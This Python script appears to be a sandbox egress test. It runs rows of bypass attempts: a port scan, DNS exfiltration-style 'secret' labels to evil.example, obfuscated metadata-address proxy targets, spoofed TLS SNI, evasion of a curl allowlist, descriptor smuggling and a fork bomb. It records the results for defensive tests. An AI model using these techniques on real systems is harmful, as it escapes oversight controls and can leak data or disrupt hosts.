"""Runs in the sandbox, as the workload: the network rows of the attack list. One JSON object.

Standard library only, for the agent image's own Python. Every row says what happened, in words
that the tests compare: "connected", "reset", "alert 49", an errno's name, bytes that came back.
Judging it is the tests' business. Python is allowed to reach echo, skip and the names below
``public``; only curl may reach curl-only.
"""

import contextlib
import ctypes
import errno
import json
import os
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

ZONE = "upstream.example"
ECHO, SKIP, CURL_ONLY, OTHER = (f"{one}.{ZONE}" for one in ("echo", "skip", "curl-only", "other"))
FOREIGN, FOREIGN_V6, GATEWAY = "203.0.113.5", "2001:db8::5", "198.51.100.1"
PROXY = ("127.0.0.1", 61080)
RESOLVER = ("198.51.100.1", 53)
PATIENCE_S = 8.0
# What every refusal answers at once, because it is told in the client's own protocol.
PROBE = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
ROWS = {}


def row(function):
    ROWS[function.__name__] = function
    return function


def ends(function):
    """What a call came to: its result, or the errno's name."""
    try:
        return function()
    except TimeoutError:
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def dial(host, port, family=socket.AF_UNSPEC):
    for kind, _, _, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        sock = socket.socket(kind, socket.SOCK_STREAM)
        sock.settimeout(PATIENCE_S)
        sock.connect(address)
        return sock
    raise OSError(errno.ENOENT, "no address")


def talk(host, port, data=PROBE, family=socket.AF_UNSPEC):
    """Connect, send, and tell what came back first."""

    def attempt():
        with dial(host, port, family) as sock:
            sock.sendall(data)
            return shown(sock.recv(4096))

    return ends(attempt)


def shown(data):
    if not data:
        return "closed"
    if data[0] == 0x15 and len(data) >= 7:
        return f"alert {data[6]}"
    if data[0] == 0x16:
        return "server hello"
    if data.startswith((b"HTTP/1.1 403", b"HTTP/1.1 502")):
        return json.loads(data.partition(b"\r\n\r\n")[2])["code"]
    return "echoed" if data == PROBE else data.decode("latin-1")


def hello(name, version=None):
    """The bytes of a TLS hello for ``name`` (None: no SNI)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if version is not None:
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version = context.maximum_version = version
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(received, sent, server_hostname=name).do_handshake()
    return sent.read()


def tls(host, name, port=443):
    return talk(host, port, hello(name))


def ask(name, kind=1, server=RESOLVER, wire=None):
    """One DNS question over UDP: (rcode, addresses as text)."""
    labels = name if isinstance(name, list) else [part.encode() for part in name.split(".")]
    encoded = b"".join(bytes([len(part)]) + part for part in labels) + b"\0"
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + encoded + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE_S)
        sock.connect(server)
        sock.send(query if wire is None else wire)
        answer = sock.recv(4096)
    return {"rcode": answer[3] & 15, "answers": int.from_bytes(answer[6:8], "big")}


def datagram(protocol, address, kind=socket.SOCK_DGRAM):
    def attempt():
        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        with socket.socket(family, kind, protocol) as sock:
            sock.settimeout(1)
            sock.connect(address)
            sock.send(b"data")
            return shown(sock.recv(100))

    return ends(attempt)


def through_proxy(target, method="CONNECT"):
    def attempt():
        with socket.create_connection(PROXY, PATIENCE_S) as sock:
            line = target if isinstance(target, bytes) else target.encode("utf-8")
            sock.sendall(
                method.encode() + b" " + line + b" HTTP/1.1\r\nHost: " + line + b"\r\n\r\n"
            )
            return sock.recv(65536).split(b"\r\n")[0].decode("latin-1")

    return ends(attempt)


# --- E


@row
def e1_tcp_to_an_address():
    began = time.monotonic()
    found = [talk(FOREIGN, 443), talk(FOREIGN_V6, 443), talk(FOREIGN, 22)]
    return {"found": found, "seconds": time.monotonic() - began, "paired": talk(ECHO, 7)}


@row
def e2_e3_e5_datagrams_of_every_kind():
    targets = [(FOREIGN, 443), (FOREIGN, 123), (GATEWAY, 9999), (FOREIGN_V6, 443)]
    return {
        "udp": [datagram(0, target) for target in targets],
        "udplite": [datagram(136, target) for target in targets],
        "sctp": ends(lambda: datagram(132, targets[0], socket.SOCK_STREAM)),
        "dccp": ends(lambda: datagram(33, targets[0], 6)),
        "raw": [ends(lambda p=p: socket.socket(socket.AF_INET, socket.SOCK_RAW, p).close())
                for p in (1, 2, 4, 47, 50, 115, 255)],
        "ping": datagram(1, (FOREIGN, 0)),
        "packet": ends(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
        "paired": ask(ECHO)["answers"],
    }  # fmt: skip


@row
def e6_mptcp():
    def through(address):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock:
            sock.settimeout(PATIENCE_S)
            sock.connect(address)
            sock.sendall(PROBE)
            return shown(sock.recv(4096))

    return {"found": ends(lambda: through((FOREIGN, 443)))}


@row
def e7_the_proxys_port_elsewhere():
    return {"found": [talk(FOREIGN, port) for port in (61001, 61053, 61080)]}


@row
def e11_marks_and_devices():
    def option(level, name, value):
        with socket.socket() as sock:
            sock.setsockopt(level, name, value)

    def bound():
        """Without privilege since Linux 5.7: past the loopback that leads to egress?"""
        with socket.socket() as sock:
            sock.settimeout(2)
            sock.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")
            sock.connect((GATEWAY, 7))
            sock.sendall(PROBE)
            return shown(sock.recv(4096))

    return {
        "by device": ends(bound),
        "SO_MARK": ends(lambda: option(socket.SOL_SOCKET, 36, 0x5B)),
        "IP_TRANSPARENT": ends(lambda: option(socket.IPPROTO_IP, 19, 1)),
    }


@row
def e13_the_gateway_and_what_listens_there():
    """Reached by address, the servers that policy names are not those."""
    return {"found": [talk(GATEWAY, port) for port in (7, 22, 80, 443, 5432)]}


@row
def e14_the_rules():
    return {
        "netfilter": ends(lambda: socket.socket(16, socket.SOCK_RAW, 12).close()),
        "unshare": ctypes.CDLL(None, use_errno=True).unshare(0x40000000) and ctypes.get_errno(),
    }


@row
def e18_mapped():
    return {"found": talk(f"::ffff:{FOREIGN}", 443, family=socket.AF_INET6)}


@row
def e19_a_port_scan():
    began = time.monotonic()
    found = set()
    for port in range(1, 301):
        with socket.socket() as sock:
            sock.settimeout(PATIENCE_S)
            found.add(ends(lambda s=sock, p=port: s.connect((FOREIGN, p)) or "taken"))
    return {"found": sorted(found), "seconds": time.monotonic() - began, "paired": talk(ECHO, 7)}


# --- F


@row
def f1_labels_of_a_refused_name():
    return {"found": [ask(f"secret{number}.evil.example") for number in range(20)]}


@row
def f3_other_types():
    kinds = {"TXT": 16, "NULL": 10, "ANY": 255, "HTTPS": 65, "SVCB": 64, "MX": 15, "SRV": 33}
    return {name: ask(ECHO, kind) for name, kind in kinds.items()}


@row
def f5_other_resolvers():
    servers = ("127.0.0.53", "127.0.0.11", "8.8.8.8", "169.254.169.253", GATEWAY)
    return {server: ask("unnamed.example", server=(server, 53)) for server in servers}


@row
def f6_rebinding():
    names = ("rebind", "mixed", "loop", "mapped", "private.public")
    return {name: talk(f"{name}.{ZONE}", 443) for name in names}


@row
def f2_labels_under_a_wildcard():
    """Asking tells nobody. Connecting does, a bounded number of times."""
    paired = talk(f"wide.public.{ZONE}", 7)
    names = [f"secret{number}.public.{ZONE}" for number in range(90)]
    asked = {ask(name)["rcode"] for name in names}
    found = [talk(name, 7) for name in names]
    return {"asked": sorted(asked), "found": sorted(set(found)), "paired": paired}


@row
def f9_spellings():
    odd = {
        "case": [b"EcHo", b"upstream", b"EXAMPLE"],
        "nul": [b"echo\0x", b"upstream", b"example"],
        "control": [b"echo\x1b", b"upstream", b"example"],
        "space": [b"echo ", b"upstream", b"example"],
        "dot inside": [b"echo.upstream", b"example"],
        "percent": [b"echo%00", b"upstream", b"example"],
        "suffix": [b"echo", b"upstream", b"example", b"evil"],
        "utf-8": ["écho".encode(), b"upstream", b"example"],
    }
    found = {name: ask(labels) for name, labels in odd.items()}
    head = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0"
    found["64 bytes"] = ends(lambda: ask("", wire=head + b"\x40" + b"a" * 64 + b"\0\0\1\0\1"))
    found["loop"] = ends(lambda: ask("", wire=head + b"\xc0\x0c\0\1\0\1"))
    found["trailing dot"] = talk(ECHO + ".", 7)
    return found


@row
def f10_search_domains():
    return {"own": talk("echo", 7), "paired": talk(ECHO, 7)}


# --- G


@row
def g1_g2_g3_g5_hosts_that_are_none():
    hosts = [
        "2852039166:80", "0xa9fea9fe:80", "0251.0376.0251.0376:80", "169.254.43518:80", "127.1:80",
        "0:80", "①②⑦.0.0.1:80", "127。0。0。1:80", "[::ffff:a9fe:a9fe]:80", "[::169.254.169.254]:80",
        "[64:ff9b::a9fe:a9fe]:80", "[2002:a9fe:a9fe::1]:80", "[fe80::1%25eth0]:80",
        "user:pass@" + ECHO + ":443", ECHO + ":443:443", "[::1]junk:80", "//" + ECHO, ECHO + "\\:443",
        ECHO + ":0", ECHO + ":65536", ECHO + ":+443", ECHO, "a" * 5000 + ":443", "x" + ECHO + ":443",
        ECHO + "\0:443", "localhost:61001", "127.0.0.1:61080",
    ]  # fmt: skip
    found = {host[:40]: through_proxy(host) for host in hosts}
    return {"found": found, "paired": through_proxy(f"{ECHO}:443")}


@row
def h2_absolute_form():
    target = f"http://{ECHO}/hi"

    def attempt(host):
        with socket.create_connection(PROXY, PATIENCE_S) as sock:
            sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            return sock.recv(65536).split(b"\r\n")[0].decode()

    return {"found": ends(lambda: attempt(OTHER)), "paired": ends(lambda: attempt(ECHO))}


# --- I


@row
def i1_an_allowed_name_at_another_address():
    return {"found": [tls(FOREIGN, ECHO), tls(GATEWAY, ECHO)], "paired": tls(ECHO, ECHO)}


@row
def i2_a_name_behind_another():
    return {"found": tls(ECHO, OTHER), "opaque": tls(SKIP, OTHER), "paired": tls(ECHO, ECHO)}


def with_names(*names):
    """A hello whose server_name extension lists several names (RFC 6066 section 3)."""
    plain = hello("x" * 60 + ".example")
    entry = b"\0" + struct.pack("!H", 68) + b"x" * 60 + b".example"
    assert entry in plain
    entries = b"".join(b"\0" + struct.pack("!H", len(name)) + name for name in names)
    at = plain.index(entry)
    old, new = len(entry), len(entries)
    body = bytearray(plain[: at - 4] + struct.pack("!HH", new + 2, new) + entries)
    body += plain[at + old :]
    grown = new - old
    for offset, size in ((3, 2), (6, 3), (extensions_at(plain), 2)):
        length = int.from_bytes(plain[offset : offset + size], "big") + grown
        body[offset : offset + size] = length.to_bytes(size, "big")
    return bytes(body)


def extensions_at(plain):
    """Where the length of the extensions stands (RFC 8446 section 4.1.2)."""
    at = 5 + 4 + 2 + 32
    at += 1 + plain[at]
    at += 2 + int.from_bytes(plain[at : at + 2], "big")
    return at + 1 + plain[at]


@row
def i3_odd_names():
    return {
        "none": talk(ECHO, 443, hello(None)),
        "address": talk(ECHO, 443, with_names(b"198.51.100.1")),
        "two": talk(ECHO, 443, with_names(ECHO.encode(), OTHER.encode())),
        "dot": talk(ECHO, 443, with_names(ECHO.encode() + b".")),
        "case": talk(ECHO, 443, with_names(ECHO.upper().encode())),
        "underscore": talk(ECHO, 443, with_names(b"_" + ECHO.encode())),
        "nul": talk(ECHO, 443, with_names(ECHO.encode() + b"\0x")),
        "paired": talk(ECHO, 443, with_names(ECHO.encode())),
    }


@row
def i5_hellos_in_pieces():
    whole = hello(ECHO)

    def by_segments(size, data=whole, pause_s=0.002):
        def attempt():
            with dial(ECHO, 443) as sock:
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for start in range(0, len(data), size):
                    sock.sendall(data[start : start + size])
                    time.sleep(pause_s)
                return shown(sock.recv(100))

        return ends(attempt)

    def in_records(size, data):
        body = data[5:]
        pieces = [body[start : start + size] for start in range(0, len(body), size)]
        return b"".join(data[:3] + struct.pack("!H", len(piece)) + piece for piece in pieces)

    other = hello(OTHER)
    return {
        "bytes": by_segments(1),
        "records": talk(ECHO, 443, in_records(64, whole)),
        "other by bytes": by_segments(1, other),
        "other in records": talk(ECHO, 443, in_records(64, other)),
        "tls 1.0": talk(ECHO, 443, hello(OTHER, ssl.TLSVersion.TLSv1)),
        "sslv2": talk(ECHO, 443, b"\x80\x2e\x01\x00\x02" + bytes(43)),
        "junk": talk(ECHO, 443, b"\x16\x03\x01\xff\xff" + b"\xff" * 600),
        "starttls": talk(ECHO, 7, b"STARTTLS\r\n"),
    }


# --- J


def curl(program, host=CURL_ONLY, *, argv=(), **environment):
    line = [program, *argv, "-sS", "--max-time", "8", "-o", "/dev/null", "-w", "%{http_code}"]
    done = subprocess.run(
        [*line, f"http://{host}/"],
        capture_output=True,
        text=True,
        env={**os.environ, **environment},
    )
    return done.stdout or done.stderr


@row
def j3_the_allowed_program_by_other_ways():
    shutil.copy("/usr/bin/curl", "copy-of-curl")
    os.makedirs("elsewhere", exist_ok=True)
    shutil.copy("/usr/bin/curl", "elsewhere/curl")
    return {
        "paired": curl("/usr/bin/curl"),
        "loader": curl("/lib64/ld-linux-x86-64.so.2", argv=("/usr/bin/curl",)),
        "copy": curl("./copy-of-curl"),
        "same name": curl("elsewhere/curl"),
        "argv[0]": talk(CURL_ONLY, 80),
        "link": ends(lambda: os.link("/usr/bin/curl", "linked-curl")),
        "/proc/self/root": curl("/proc/self/root/usr/bin/curl"),
    }


@row
def j6_a_socket_that_two_programs_hold():
    """An allowed program that has the socket, too, does not vouch for the one that made it."""
    sock = socket.socket()
    sock.settimeout(PATIENCE_S)
    os.set_inheritable(sock.fileno(), True)
    silent = socket.create_server(("127.0.0.1", 0))
    url = f"http://127.0.0.1:{silent.getsockname()[1]}/"
    holder = subprocess.Popen(["/usr/bin/curl", "-s", url], close_fds=False)
    silent.accept()
    try:
        sock.connect((socket.gethostbyname(CURL_ONLY), 80))
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {CURL_ONLY}\r\n\r\n".encode())
        return {"found": sock.recv(4096).split(b"\r\n")[0].decode()}
    finally:
        holder.kill()
        holder.wait()


HIDING = """
import ctypes, os, socket, sys, threading
def go():
    while open("/proc/self/stat").read().rsplit(")", 1)[1].split()[0] != "Z": pass
    sock = socket.socket(fileno=int(sys.argv[1])); sock.settimeout(8)
    try:
        sock.connect((sys.argv[2], 80))
        sock.sendall(b"GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % sys.argv[3].encode())
        found = sock.recv(4096).split(b"\\r\\n")[0].decode()
    except OSError as error:
        found = repr(error)
    print(found, flush=True); os._exit(0)
threading.Thread(target=go).start()
ctypes.CDLL(None).pthread_exit(None)
"""


@row
def j7_a_holder_whose_first_thread_has_ended():
    sock = socket.socket()
    os.set_inheritable(sock.fileno(), True)
    silent = socket.create_server(("127.0.0.1", 0))
    url = f"http://127.0.0.1:{silent.getsockname()[1]}/"
    holder = subprocess.Popen(["/usr/bin/curl", "-s", url], close_fds=False)
    silent.accept()
    line = [sys.executable, "-c", HIDING, str(sock.fileno()), socket.gethostbyname(CURL_ONLY)]
    try:
        hider = subprocess.Popen(
            [*line, CURL_ONLY], close_fds=False, stdout=subprocess.PIPE, text=True
        )
        sock.close()
        return {"found": hider.communicate(timeout=30)[0].strip()}
    finally:
        holder.kill()
        holder.wait()


@row
def j7_a_thread_with_a_file_table_of_its_own():
    libc = ctypes.CDLL(None, use_errno=True)
    found = {}

    def try_it():
        found["unshare"] = libc.unshare(0x400) and errno.errorcode[ctypes.get_errno()]
        code = libc.syscall(436, 1000, 1001, 2) and errno.errorcode[ctypes.get_errno()]
        found["close_range"] = code

    thread = threading.Thread(target=try_it)
    thread.start()
    thread.join()
    return found


@row
def j7_very_many_descriptors():
    """The search has a budget; what is over it is refused, and the next one works."""
    script = (
        "import os, time\nfor n in range(15000): os.dup(0)\nprint(1, flush=True)\ntime.sleep(60)"
    )
    crowd = [
        subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE) for _ in range(3)
    ]
    for one in crowd:
        one.stdout.readline()
    during = talk(ECHO, 7)
    for one in crowd:
        one.kill()
        one.wait()
    return {"during": during, "paired": talk(ECHO, 7)}


# --- L, N


@row
def l14_proxy_variables():
    lying = {
        "no_proxy": "*",
        "NO_PROXY": "*",
        "ALL_PROXY": "http://203.0.113.5:1",
        "http_proxy": "",
    }
    return {
        "found": curl("/usr/bin/curl", OTHER, **lying),
        "paired": curl("/usr/bin/curl", **lying),
    }


@row
def n1_a_fork_bomb():
    children, code = [], None
    while code is None and len(children) < 5000:
        try:
            pid = os.fork()
        except OSError as error:
            code = errno.errorcode[error.errno]
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for pid in children[:20]:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    during = talk(ECHO, 7)
    for pid in children[20:]:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    return {"stopped by": code, "during": during, "paired": talk(ECHO, 7)}


@row
def n3_idle_tunnels_and_a_slow_reader():
    """Half the tunnels idle, one reader that does not read, and a newcomer."""
    address = socket.getaddrinfo(ECHO, 7, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    idle = []
    for _ in range(1000):
        sock = socket.create_connection(address, PATIENCE_S)
        sock.sendall(b"first")
        assert sock.recv(100) == b"first"
        idle.append(sock)
    slow = socket.create_connection(address, PATIENCE_S)
    slow.setblocking(False)
    swallowed = 0
    end = time.monotonic() + 2
    while time.monotonic() < end:
        try:
            swallowed += slow.send(b"x" * 65536)
        except BlockingIOError:
            time.sleep(0.01)
    began = time.monotonic()
    newcomer = talk(ECHO, 7)
    seconds = time.monotonic() - began
    idle[500].sendall(b"still")
    old = shown(idle[500].recv(100))
    for sock in (*idle, slow):
        sock.close()
    return {"swallowed": swallowed, "newcomer": newcomer, "old": old, "seconds": seconds}


@row
def n6_hashing_does_not_stop_the_others():
    """A large program makes its first connection; a tunnel keeps answering meanwhile."""
    shutil.copy("/usr/bin/curl", "large")
    with open("large", "r+b") as file:
        file.truncate(1 << 30)
    with dial(ECHO, 7) as sock:
        starting = subprocess.Popen(
            ["./large", "-s", "-o", "/dev/null", f"http://{CURL_ONLY}/"], stderr=subprocess.DEVNULL
        )
        slowest, count = 0.0, 0
        while starting.poll() is None:
            began = time.monotonic()
            sock.sendall(b"x")
            sock.recv(1)
            slowest = max(slowest, time.monotonic() - began)
            count += 1
    os.unlink("large")
    return {"slowest": slowest, "count": count}


@row
def who_am_i():
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file.read().splitlines() if ":\t" in line)
    return {"uid": status["Uid"].split()[0], "caps": status["CapEff"], "bound": status["CapBnd"]}


def main():
    found = {}
    for name in sys.argv[1:] or ROWS:
        print(f"row {name} at {time.monotonic():.1f}", file=sys.stderr, flush=True)
        try:
            found[name] = ROWS[name]()
        except Exception as error:
            found[name] = {"error": repr(error)}
    json.dump(found, sys.stdout)


if __name__ == "__main__":
    main()
